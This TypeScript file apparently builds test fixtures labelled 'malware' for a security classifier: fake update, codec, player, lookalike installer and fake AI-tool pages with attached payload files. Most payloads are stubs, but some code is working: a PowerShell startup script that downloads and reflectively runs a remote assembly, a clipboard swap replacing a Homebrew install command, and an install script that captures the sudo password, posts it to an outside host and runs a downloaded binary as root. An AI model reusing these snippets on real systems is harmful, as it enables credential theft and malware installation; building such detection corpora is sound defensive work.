import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute, zip, pe, cfb, apk } from '../parts/e-bin.js';
import { doc, wpBlog, wpCssRoute, icons, gtagInline, vendorCss, footerLinks, cookieBanner } from '../parts/m-kit.js';

export const entries: Entry[] = [
(() => {
  const host = 'edge-update.microsoft-store-apps.net';
  return {
    id: 'm-fakeupdate-edge-msix',
    label: 'malware',
    kind: 'fake-update',
    url: `https://${host}/edge/update?ver=130`,
    body: doc({
      title: 'Microsoft Edge – Update required',
      css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:linear-gradient(135deg,#0c59a4,#2ac6a0);min-height:100vh;color:#fff}.c{max-width:640px;margin:0 auto;padding:100px 20px;text-align:center}
.b{background:#fff;color:#0c59a4;border-radius:4px;padding:14px 34px;font-weight:600;font-size:17px;text-decoration:none;display:inline-block;margin-top:20px}small{opacity:.8}`,
      body: `<div class="c"><img src="/img/logo.png" width="72" height="72" alt=""><h1>Your Microsoft Edge is out of date</h1><p>Critical security update 130.0.2849.80 is available. Some websites may not work until you update. The update installs through the Microsoft Store App Installer.</p>
<a class="b" href="/dl/MicrosoftEdgeUpdate.msix" id="dl">Update now</a><p><small>Size: 14.2 MB · Publisher: Microsoft Corporation · Windows 10/11</small></p>
<p><small>© Microsoft 2025 · <a href="#" style="color:#fff">Privacy</a> · <a href="#" style="color:#fff">Terms of use</a></small></p></div>
<script>setTimeout(function(){location.href='/dl/MicrosoftEdgeUpdate.msix'},3000);</script>`,
    }),
    routes: {
      ...icons(host, [12, 89, 164]),
      [`${host}/dl/MicrosoftEdgeUpdate.msix`]: fileRoute(zip([
        { name: 'AppxManifest.xml', data: '<?xml version="1.0" encoding="utf-8"?><Package xmlns="http://schemas.microsoft.com/appx/manifest/foundation/windows10"><Identity Name="Microsoft.EdgeUpdate" Publisher="CN=Microsoft Corporation" Version="130.0.2849.80"/><Applications><Application Id="App" Executable="VFS\\ProgramFilesX64\\edgeupd\\update.exe" EntryPoint="Windows.FullTrustApplication"/></Applications><Extensions><desktop:Extension Category="windows.startupTask" Executable="config.ps1"/></Extensions></Package>' },
        { name: 'config.ps1', data: '$b=(New-Object Net.WebClient).DownloadData("https://microsoft-store-apps.net/p/bin.dat");[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)' },
        { name: 'VFS/ProgramFilesX64/edgeupd/update.exe', data: pe({ strings: ['MicrosoftEdgeUpdate', 'StartupTask'] }) },
      ]), 'application/msix', 'MicrosoftEdgeUpdate.msix'),
    },
  };
})(),

(() => {
  const host = 'watch.seriesflix-hd.to';
  return {
    id: 'm-fakeupdate-codec-streaming',
    label: 'malware',
    kind: 'fake-codec',
    url: `https://${host}/watch/the-night-agent-s02e04`,
    body: doc({
      title: 'Watch The Night Agent S02E04 Online Free HD – SeriesFlix',
      css: `body{margin:0;background:#0b0b0f;color:#ccc;font-family:Roboto,Arial,sans-serif}header{padding:14px 30px;background:#15151c;display:flex;gap:20px}header b{color:#e50914;font-size:22px}
.player{max-width:900px;margin:30px auto;aspect-ratio:16/9;background:#000;position:relative;display:flex;align-items:center;justify-content:center}
.ov{position:absolute;inset:0;background:rgba(0,0,0,.85);display:none;flex-direction:column;align-items:center;justify-content:center;text-align:center;padding:30px}
.b{background:#e50914;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:bold}.eps a{color:#aaa;margin-right:10px}`,
      body: `<header><b>SERIESFLIX</b><span>Movies</span><span>TV Shows</span><span>Top IMDb</span></header>
<div class="player" id="pl"><button id="play" style="font-size:50px;background:none;border:0;color:#fff;cursor:pointer">▶</button>
<div class="ov" id="ov"><h2 style="color:#fff">Video codec missing</h2><p>This video uses the HEVC/H.265 4K codec which is not installed on your system. Install <b>HD Video Codec Pack 2025</b> (free) to continue watching.</p><a class="b" href="https://codecs-pack.download-now.icu/get?src=sf" id="g">Install codec &amp; play</a><p style="font-size:11px;color:#777">Compatible with Windows 10/11 · 2.3 MB</p></div></div>
<div style="max-width:900px;margin:auto"><h1 style="color:#fff;font-size:20px">The Night Agent – Season 2 Episode 4</h1><div class="eps">Episodes: <a href="#">E01</a><a href="#">E02</a><a href="#">E03</a><a href="#">E04</a><a href="#">E05</a></div><p>Servers: UpCloud · Vidcloud · MixDrop</p></div>
<script>document.getElementById('play').onclick=function(){this.textContent='⏳';setTimeout(function(){document.getElementById('ov').style.display='flex'},1500);};</script>`,
    }),
    routes: {
      ...icons(host, [229, 9, 20]),
      'codecs-pack.download-now.icu/get': redirectRoute(302, 'https://codecs-pack.download-now.icu/files/HDVideoCodecPack_Setup.exe'),
      'codecs-pack.download-now.icu/files/HDVideoCodecPack_Setup.exe': fileRoute(pe({ x64: false, strings: ['HD Video Codec Pack', 'NSIS', 'Nullsoft Install System v3.08'] }), 'application/octet-stream', 'HDVideoCodecPack_Setup.exe'),
    },
  };
})(),

(() => {
  const host = 'videos-virais.assistir-agora.com.br';
  return {
    id: 'm-fakeupdate-player-apk-pt',
    label: 'malware',
    kind: 'fake-player',
    url: `https://${host}/video/8841`,
    body: doc({
      title: 'Vídeo vazado – assista agora',
      lang: 'pt-BR',
      css: `body{margin:0;background:#000;color:#fff;font-family:Arial}.v{max-width:720px;margin:20px auto;aspect-ratio:16/9;background:#222 url(/img/thumb.png) center/cover;display:flex;align-items:center;justify-content:center}
.m{max-width:520px;margin:20px auto;background:#fff;color:#222;border-radius:8px;padding:20px;display:none}.b{display:block;background:#2e7d32;color:#fff;text-align:center;padding:14px;border-radius:6px;text-decoration:none;font-weight:bold}`,
      body: `<div class="v" id="v"><span style="font-size:60px">▶</span></div>
<div class="m" id="m"><h3>Atualize o Player de Vídeo</h3><p>Seu reprodutor de vídeo está desatualizado. Para assistir este vídeo é necessário instalar a versão mais recente do <b>Video Player HD</b>.</p>
<a class="b" href="/apk/VideoPlayerHD_v4.2.apk">BAIXAR E ATUALIZAR</a><p style="font-size:12px;color:#666">Depois do download, toque em “Instalar” e permita “Fontes desconhecidas” nas configurações.</p></div>
<script>document.getElementById('v').onclick=function(){document.getElementById('m').style.display='block';if(/Android/.test(navigator.userAgent))location.href='/apk/VideoPlayerHD_v4.2.apk';};</script>`,
    }),
    routes: {
      ...icons(host, [46, 125, 50]),
      [`${host}/img/thumb.png`]: pngRoute(60, 30, 30),
      [`${host}/apk/VideoPlayerHD_v4.2.apk`]: fileRoute(apk('com.hdvideo.player.update', 'Video Player HD', ['sms_forward', 'accessibility_overlay']), 'application/vnd.android.package-archive', 'VideoPlayerHD_v4.2.apk'),
    },
  };
})(),

(() => {
  const host = 'www.advanced-ip-scanner.co';
  return {
    id: 'm-lookalike-advanced-ip-scanner',
    label: 'malware',
    kind: 'trojanised-installer',
    url: `https://${host}/`,
    body: doc({
      title: 'Advanced IP Scanner - Download Free Network Scanner.',
      css: vendorCss('#2b7ad0') + '.dl{background:#6cb02c}',
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">Advanced IP Scanner</a><nav><a href="#">Help</a><a href="#">Radmin VPN</a><a href="#">Blog</a></nav><span style="margin-left:auto">English ▾</span></header>
<main><div class="hero"><div><h1>Advanced IP Scanner</h1><p>Reliable and free network scanner to analyse LAN. The program shows all network devices, gives you access to shared folders, provides remote control of computers (via RDP and Radmin), and can even remotely switch computers off.</p>
<a class="btn dl" href="/download/Advanced_IP_Scanner_2.5.4594.1.zip">Free Download</a><p class="muted">Version 2.5.4594.1 · Windows 11/10/8/7 · 20.4 MB</p></div><div class="card"><b>Features</b><ul><li>Easy access to network shares</li><li>Remote control via RDP and Radmin</li><li>Wake-On-LAN</li><li>Export to CSV</li></ul></div></div></main>
${footerLinks('Famatech Corp.')}`,
    }),
    routes: {
      ...icons(host, [43, 122, 208]),
      [`${host}/download/Advanced_IP_Scanner_2.5.4594.1.zip`]: fileRoute(zip([
        { name: 'Advanced_IP_Scanner_2.5.4594.1.exe', data: pe({ strings: ['Advanced IP Scanner Setup', 'DLL side-load'] }) },
        { name: 'version.dll', data: pe({ dll: true, strings: ['version.dll', 'cobaltstrike beacon'] }) },
      ]), 'application/zip', 'Advanced_IP_Scanner_2.5.4594.1.zip'),
    },
  };
})(),

(() => {
  const host = 'obs-project.studio';
  return {
    id: 'm-lookalike-obs-studio',
    label: 'malware',
    kind: 'trojanised-installer',
    url: `https://${host}/download`,
    body: doc({
      title: 'Download | OBS',
      css: vendorCss('#284cb8') + 'body{background:#1e1e22;color:#ddd}.brand{color:#fff}header.top{border-color:#333}header.top nav a{color:#ccc}.card{border-color:#333}',
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">OBS Studio</a><nav><a href="#">Home</a><a href="#">Download</a><a href="#">Forums</a><a href="#">Help</a></nav></header>
<main><h1>Download OBS Studio</h1><p>Latest release 31.0.0 – November 22nd, 2025</p>
<div class="grid3"><div class="card"><h3>Windows</h3><a class="btn" href="/dl/OBS-Studio-31.0.0-Windows-Installer.exe">Download Installer</a><p><a href="/dl/OBS-Studio-31.0.0-Windows.zip">Download Zip</a></p></div>
<div class="card"><h3>macOS</h3><a class="btn alt" href="#">Download (Apple Silicon)</a></div><div class="card"><h3>Linux</h3><p>sudo add-apt-repository ppa:obsproject/obs-studio</p></div></div>
<p class="muted">Windows Defender may flag the new installer. This is a false positive caused by our new code-signing certificate – please add an exclusion.</p></main>
${footerLinks('OBS Project')}`,
    }),
    routes: {
      ...icons(host, [40, 76, 184]),
      [`${host}/dl/OBS-Studio-31.0.0-Windows-Installer.exe`]: fileRoute(pe({ strings: ['OBS Studio Installer', 'Inno Setup', 'powershell Add-MpPreference -ExclusionPath C:\\'] }), 'application/octet-stream', 'OBS-Studio-31.0.0-Windows-Installer.exe'),
      [`${host}/dl/OBS-Studio-31.0.0-Windows.zip`]: fileRoute(zip([{ name: 'bin/64bit/obs64.exe', data: pe({ strings: ['obs64'] }) }]), 'application/zip', 'OBS-Studio-31.0.0-Windows.zip'),
    },
  };
})(),

(() => {
  const host = 'klingai-video.studio';
  return {
    id: 'm-fakeai-video-generator-zip',
    label: 'malware',
    kind: 'fake-ai-tool',
    url: `https://${host}/create`,
    body: doc({
      title: 'AI Video Generator – Turn photos into cinematic videos | Kling Studio',
      css: `body{margin:0;background:#0a0a12;color:#eee;font-family:Inter,Arial,sans-serif}.w{max-width:760px;margin:50px auto;text-align:center}.up{border:2px dashed #6d5dfc;border-radius:16px;padding:50px;margin:20px 0}
.b{background:linear-gradient(90deg,#6d5dfc,#c55dfc);border:0;color:#fff;padding:14px 30px;border-radius:30px;font-size:16px;cursor:pointer}.bar{height:8px;background:#222;border-radius:4px;overflow:hidden}.bar i{display:block;height:100%;width:0;background:#6d5dfc;transition:width 4s}`,
      body: `<div class="w"><h1>Create AI videos from your photos</h1><p>Upload up to 5 images and our AI will animate them into a 1080p video with music. Free, no watermark.</p>
<div class="up"><input type="file" id="f" accept="image/*" multiple><p>JPG, PNG · max 20 MB</p></div><button class="b" id="g">Generate video</button>
<div id="p" style="display:none;margin-top:26px"><p id="st">Rendering your video…</p><div class="bar"><i id="bi"></i></div></div>
<div id="d" style="display:none;margin-top:26px"><h3>Your video is ready! 🎉</h3><p>Download contains the video and our HD viewer.</p><a class="b" style="text-decoration:none;display:inline-block" href="/output/Video_HD_1080p_AI.zip">Download video</a></div>
<p style="color:#666;font-size:12px;margin-top:40px">© 2025 Kling Studio AI · Terms · Privacy · 2.4M videos created</p></div>
<script>document.getElementById('g').onclick=function(){document.getElementById('p').style.display='block';setTimeout(function(){document.getElementById('bi').style.width='100%'},50);setTimeout(function(){document.getElementById('d').style.display='block';document.getElementById('st').textContent='Done';},4200);};</script>`,
    }),
    routes: {
      ...icons(host, [109, 93, 252]),
      [`${host}/output/Video_HD_1080p_AI.zip`]: fileRoute(zip([
        { name: 'Video_HD_1080p_AI.mp4                                         .exe', data: pe({ strings: ['Noodlophile', 'telegram bot'] }) },
        { name: 'readme.txt', data: 'Open the video file to play. Password-free.' },
      ]), 'application/zip', 'Video_HD_1080p_AI.zip'),
    },
  };
})(),

(() => {
  const host = 'capcut-pro-free.com';
  return {
    id: 'm-fake-capcut-pro-editor',
    label: 'malware',
    kind: 'fake-video-editor',
    url: `https://${host}/pc`,
    body: doc({
      title: 'CapCut Pro for PC – Free Download (All Premium Unlocked)',
      css: vendorCss('#00c2b8') + 'body{background:#f8fafb}',
      body: `<header class="top"><a class="brand" href="/"><img src="/img/logo.png" alt="">CapCut Pro</a><nav><a href="#">Features</a><a href="#">Templates</a><a href="#">Download</a></nav></header>
<main><div class="hero"><div><h1>CapCut Pro 2025 for Windows</h1><p>All Pro effects, AI captions, 4K export and no watermark – unlocked for free. Trusted by 3 million creators.</p>
<a class="btn" id="dl" href="#">Download CapCut Pro (168 MB)</a><p class="muted">Password for archive: <b>2025</b></p></div><div class="card"><b>What's new</b><ul><li>AI auto-captions in 20 languages</li><li>Remove background</li><li>TikTok direct upload</li></ul></div></div></main>
${footerLinks('CapCut Pro')}
<script>document.getElementById('dl').onclick=function(e){e.preventDefault();fetch('/api/link?os=win').then(function(r){return r.json()}).then(function(j){location.href=j.url});};</script>`,
    }),
    routes: {
      ...icons(host, [0, 194, 184]),
      [`${host}/api/link`]: jsonRoute({ url: 'https://files.mega-share-cdn.info/d/CapCutPro_2025_Setup.zip' }),
      'files.mega-share-cdn.info/d/CapCutPro_2025_Setup.zip': fileRoute(zip([{ name: 'CapCutPro_Setup.exe', data: pe({ strings: ['CapCut', 'RedLine'] }) }], { encrypted: true }), 'application/zip', 'CapCutPro_2025_Setup.zip'),
    },
  };
})(),

(() => {
  const host = 'brew-sh.install-homebrew.com';
  return {
    id: 'm-lookalike-homebrew-curl-bash-stealer',
    label: 'malware',
    kind: 'lookalike-install-command',
    url: `https://${host}/?utm_source=google&utm_medium=cpc&utm_campaign=homebrew`,
    body: doc({
      title: 'Homebrew — The Missing Package Manager for macOS (or Linux)',
      css: `body{font-family:"Helvetica Neue",Helvetica,sans-serif;background:#fff;color:#2e2a24;max-width:720px;margin:0 auto;padding:40px 20px;text-align:center}pre{background:#2e2a24;color:#fbb040;padding:14px;text-align:left;border-radius:4px;white-space:pre-wrap}
button{background:#fbb040;border:0;padding:8px 16px;border-radius:4px;cursor:pointer}`,
      body: `<img src="/img/logo.png" width="80" height="80" alt=""><h1>Homebrew</h1><h2 style="font-weight:300">The Missing Package Manager for macOS (or Linux)</h2>
<h3>Install Homebrew</h3><pre id="c">/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"</pre><button id="cp">Copy</button>
<p>Paste that in a macOS Terminal or Linux shell prompt.</p><p>The script explains what it will do and then pauses before it does it. Read about other <a href="#">installation options</a>.</p>
<p>Homebrew installs <a href="#">the stuff you need</a> that Apple (or your Linux system) didn't.</p><pre>$ brew install wget</pre>
<script>
document.getElementById('cp').onclick=function(){
  // the displayed command is the real one; the copied one is not
  var real='/bin/bash -c "$(curl -fsSL https://brew-sh.install-homebrew.com/install.sh)"';
  navigator.clipboard.writeText(real);this.textContent='Copied';
};
document.getElementById('c').addEventListener('copy',function(e){e.preventDefault();e.clipboardData.setData('text/plain','/bin/bash -c "$(curl -fsSL https://brew-sh.install-homebrew.com/install.sh)"');});
</script>`,
    }),
    routes: {
      ...icons(host, [251, 176, 64]),
      [`${host}/install.sh`]: fileRoute('#!/bin/bash\necho "==> Installing Homebrew..."\nread -s -p "Password:" P; echo\ncurl -s -X POST -d "p=$P&u=$(whoami)" https://install-homebrew.com/l >/dev/null\ncurl -so /tmp/.brewupd https://install-homebrew.com/b/update && chmod +x /tmp/.brewupd && echo "$P" | sudo -S /tmp/.brewupd\n/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"\n', 'text/x-shellscript'),
    },
  };
})(),
];
